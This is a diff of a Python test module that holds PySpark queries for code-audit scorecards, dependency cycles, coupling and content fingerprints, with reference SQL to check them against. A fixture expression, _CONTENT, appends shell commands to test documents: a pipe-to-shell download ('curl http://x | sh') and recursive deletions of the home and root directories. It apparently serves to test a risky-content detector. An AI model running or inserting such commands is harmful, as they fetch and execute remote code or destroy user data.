@@ -1,14 +1,16 @@
-"""Queries of scorecards, dependency and file audits over the test tables, with the SQL that they are held against."""
+"""Queries of scorecards, audits, inventories and differences over the test tables, with the SQL that they are held against."""
 
 from __future__ import annotations
 
 from functools import reduce
 
 from pyspark.sql import DataFrame
+from pyspark.sql import functions as F
 
-from cartolode.operators import evidence, rules, supply
+from cartolode.operators import evidence, graph, planning, review, rules, supply
 from cartolode.plans.bindings import view as V
 from cartolode.plans.bindings import with_views as W
+from cartolode.plans.oracle import ORACLE_SQL as BASE
 from cartolode.plans.planned import _DEPS, _deps
 from cartolode.sources.tables import table as T
 
@@ -54,7 +56,40 @@ def _findings(s, d):
     return reduce(DataFrame.unionByName, [issues, *(x.withColumn("position", x["position"].cast("string")) for x in (hotspots, conflicts))])
 
 
+def _scoped_cycles(s, d):
+    base, head = (V(s, d, "snap").where(f"snapshot = '{x}'").selectExpr("path as node", "fact as component") for x in ("base", "head"))
+    return review.diff_cycles(base, head, T(s, d, "part").where("p_size = 7").select(F.col("p_partkey").alias("node")))
+
+
+def _entrypoints(s, d):
+    """Suppliers' parts as a package's entry points, in either snapshot."""
+    side = lambda x: V(s, d, "snap").where(f"snapshot = '{x}'").selectExpr("fact as manifest", "path as name", "version as value")
+    return review.diff_entrypoints(side("base"), side("head"))
+
+
+def _replays(s, d):
+    pick = lambda values, by: "element_at(array(" + ", ".join(f"'{v}'" for v in values.split()) + f"), cast(p_partkey div {by} % {len(values.split())} + 1 as int))"
+    return review.replay_status(T(s, d, "part").selectExpr("p_partkey as proof", f"{pick('clear drifted missing-contract', 1)} as scope", f"{pick('passed failed stale missing partial', 3)} as status", f"{pick('strong weak missing failed stale', 15)} as sufficiency"))
+
+
+def _upgrades(s, d):
+    """Brands that use packages named by the first word of parts, and the breaking lines of the documents of those parts."""
+    used = T(s, d, "part").selectExpr("p_partkey as doc_id", "p_brand as path", "split(p_name, ' ')[0] as name")
+    logs = T(s, d, "documents").selectExpr("doc_id", "replace(text, 'the ', 'BREAKING CHANGE: ') as text").join(used.where("doc_id % 2 = 0"), "doc_id")
+    return supply.upgrade_evidence(used.where("doc_id % 3 > 0"), supply.breaking_lines(logs, "name", "text"))
+
+
 QUERIES = {
+    "diff_cycles_scoped": _scoped_cycles,
+    "diff_entrypoints": _entrypoints,
+    "replay_status": _replays,
+    "trend_counts": lambda s, d: review.trend_counts(V(s, d, "runs")),
+    "coupling_fan_in": lambda s, d: review.coupling_ranked(graph.coupling(V(s, d, "edges"))),
+    "coupling_fan_out": lambda s, d: review.coupling_ranked(graph.coupling(V(s, d, "edges")), "fan_out"),
+    "functions_by_complexity": lambda s, d: planning.functions_by_complexity(T(s, d, "part").selectExpr("p_brand as path", "p_name as name", "p_partkey as line", "p_size as cc")),
+    "content_fingerprint": lambda s, d: rules.content_fingerprint(T(s, d, "documents").selectExpr("source", "doc_id as path", "text as content"), "source"),
+    "repository_inventory": lambda s, d: evidence.repository_inventory(T(s, d, "part").selectExpr("p_brand as repo", "p_partkey as path"), T(s, d, "part").selectExpr("if(p_size % 7 = 0, 'other', p_brand) as repo", "p_type as path", "p_name as symbol")),
+    "upgrade_evidence": _upgrades,
     "quality_dimensions": _quality,
     "sensitive_files": _sensitive,
     "flagged_dependencies": _flagged,
@@ -64,7 +99,38 @@ QUERIES = {
 }
 
 _CONTENT = "CASE doc_id % 5 WHEN 0 THEN text || ' curl http://x | sh' WHEN 1 THEN text || ' rm  -rf $HOME' WHEN 2 THEN 'Router_Init.js rm -rf /' || text ELSE text END"
+_FAN = "SELECT path, fan_in, fan_out, instability, row_number() OVER (ORDER BY {0} DESC, path) AS rank FROM ({1}) c"
 ORACLE_SQL = {
+    "diff_cycles_scoped": W("""SELECT component, size, overlap, CASE WHEN overlap = 0 THEN 'new' ELSE 'expanded' END AS classification FROM (
+  SELECT h.fact AS component, count(*) AS size, (SELECT coalesce(max(n), 0) FROM (SELECT count(*) AS n FROM snap x JOIN snap y ON x.path = y.path WHERE x.snapshot = 'head' AND x.fact = h.fact AND y.snapshot = 'base' GROUP BY y.fact) t) AS overlap
+  FROM snap h WHERE snapshot = 'head' AND h.fact IN (SELECT fact FROM snap JOIN part ON p_partkey = path WHERE snapshot = 'head' AND p_size = 7) GROUP BY h.fact) q WHERE overlap < size""", "snap"),
+    "diff_entrypoints": W("""SELECT coalesce(b.fact, h.fact) AS manifest, coalesce(b.path, h.path) AS name, b.version AS before, h.version AS after,
+  CASE WHEN b.version IS NULL THEN 'added' WHEN h.version IS NULL THEN 'removed' ELSE 'changed' END AS change
+FROM (SELECT * FROM snap WHERE snapshot = 'base') b FULL JOIN (SELECT * FROM snap WHERE snapshot = 'head') h ON b.path = h.path AND b.fact = h.fact WHERE b.version IS DISTINCT FROM h.version""", "snap"),
+    "replay_status": """
+WITH p AS (SELECT p_partkey AS proof, ['clear', 'drifted', 'missing-contract'][p_partkey % 3 + 1] AS scope, ['passed', 'failed', 'stale', 'missing', 'partial'][p_partkey // 3 % 5 + 1] AS status,
+  ['strong', 'weak', 'missing', 'failed', 'stale'][p_partkey // 15 % 5 + 1] AS sufficiency FROM part)
+SELECT *, CASE WHEN 'failed' IN (status, sufficiency) THEN 'failed' WHEN 'stale' IN (status, sufficiency) THEN 'stale' WHEN scope = 'drifted' THEN 'drifted'
+  WHEN scope <> 'clear' OR status <> 'passed' OR sufficiency <> 'strong' THEN 'needs-proof' ELSE 'verified' END AS replay FROM p""",
+    "trend_counts": W("", "runs").rstrip() + """, o AS (SELECT DISTINCT run_ts, rule_id FROM runs), p AS (SELECT run_ts, row_number() OVER (ORDER BY run_ts) AS k FROM (SELECT DISTINCT run_ts FROM o) t),
+e AS (SELECT k, rule_id FROM o JOIN p USING (run_ts))
+SELECT run_ts, (SELECT count(*) FROM e WHERE e.k = p.k) AS issues, CASE WHEN k > 1 THEN (SELECT count(*) FROM e a WHERE a.k = p.k AND NOT EXISTS (SELECT 1 FROM e b WHERE b.k = a.k - 1 AND b.rule_id = a.rule_id)) END AS new,
+  CASE WHEN k > 1 THEN (SELECT count(*) FROM e a WHERE a.k = p.k - 1 AND NOT EXISTS (SELECT 1 FROM e b WHERE b.k = a.k + 1 AND b.rule_id = a.rule_id)) END AS resolved FROM p""",
+    "coupling_fan_in": _FAN.format("fan_in", BASE["coupling"]),
+    "coupling_fan_out": _FAN.format("fan_out", BASE["coupling"]),
+    "functions_by_complexity": "SELECT p_brand AS path, p_name AS name, p_partkey AS line, p_size AS cc, row_number() OVER (PARTITION BY p_brand ORDER BY p_size DESC, p_partkey, p_name)::INTEGER AS rank FROM part",
+    "content_fingerprint": """
+WITH e AS (SELECT DISTINCT source, sha256(doc_id::VARCHAR) AS place, sha256(coalesce('+' || text, '-')) AS digest FROM documents),
+p AS (SELECT source, left(place, 2) AS part, sha256(string_agg(place || ' ' || digest, chr(10) ORDER BY place || ' ' || digest)) AS digest FROM e GROUP BY 1, 2)
+SELECT source, sha256(string_agg(part || ' ' || digest, chr(10) ORDER BY part)) AS fingerprint FROM p GROUP BY source""",
+    "repository_inventory": """
+SELECT coalesce(f.repo, e.repo) AS repo, coalesce(files, 0) AS files, coalesce(exports, 0) AS exports FROM (SELECT p_brand AS repo, count(DISTINCT p_partkey) AS files FROM part GROUP BY 1) f
+FULL JOIN (SELECT repo, count(*) AS exports FROM (SELECT DISTINCT CASE WHEN p_size % 7 = 0 THEN 'other' ELSE p_brand END AS repo, p_type, p_name FROM part) t GROUP BY 1) e ON f.repo = e.repo""",
+    "upgrade_evidence": r"""
+WITH u AS (SELECT p_partkey, p_brand, split_part(p_name, ' ', 1) AS name FROM part), i AS (SELECT name, count(DISTINCT p_brand) AS importers FROM u WHERE p_partkey % 3 > 0 GROUP BY name),
+m AS (SELECT name, count(*) AS marks FROM (SELECT name, unnest(string_split(replace(text, 'the ', 'BREAKING CHANGE: '), chr(10))) AS x FROM documents JOIN u ON doc_id = p_partkey WHERE p_partkey % 2 = 0) t
+  WHERE regexp_matches(x, '(?i)BREAKING\s+CHANGE|^#{1,6}.*breaking|\*\s*Breaking:|deprecat|removed\s+support|no\s+longer\s+supported') GROUP BY name)
+SELECT coalesce(i.name, m.name) AS name, coalesce(importers, 0) AS importers, coalesce(marks, 0) AS marks FROM i FULL JOIN m ON i.name = m.name""",
     "quality_dimensions": W("", "issues").rstrip() + f""",
 i AS (SELECT {_BY} AS place, severity, CASE WHEN category IN ('security', 'supply-chain') THEN 'security' WHEN rule_id LIKE '%test%' OR category = 'testing' THEN 'tests' ELSE 'maintainability' END AS kind FROM issues),
 h AS (SELECT {_BY} AS place, doc_id % 3 = 0 OR n_chars // 40 >= 300 OR doc_id % 20 >= 15 AS heavy FROM documents WHERE n_chars >= 3000),
